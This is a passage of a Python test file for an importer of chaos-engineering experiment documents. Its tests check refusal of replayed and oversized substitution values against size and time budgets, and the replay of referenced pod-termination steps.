    assert "at most 100" in refusal(replayed, "")
    # Milliseconds; expanding them would build hundreds of megabytes. The bound leaves room
    # for a loaded machine and a full garbage collection late in the suite.
    assert time.monotonic() - started < 3


def test_substituted_bytes_have_a_budget_per_document() -> None:
    # Each value under the per-value cap, but together far over the document's budget.
    document = experiment(*[python("action", "chaosk8s.pod.actions", "terminate_pods",
                                   f"k{index}", label_selector="${a}", ns="shop")
                            for index in range(80)],
                          configuration={"a": "x" * 4000})
    problems = refused(document)
    assert any("bytes in all" in message for _, message in problems)


def test_a_ref_replays_the_activity_mapped_once() -> None:
    document = experiment(terminate(label_selector="app=${app}"), {"ref": "kill"},
                          configuration={"app": "web"})
    steps = import_experiment(document).method
    assert [step.name for step in steps] == ["kill", "kill-2"]
    assert all(isinstance(step, ActionStep) and step.job.target.label_selector == "app=web"
               for step in steps)
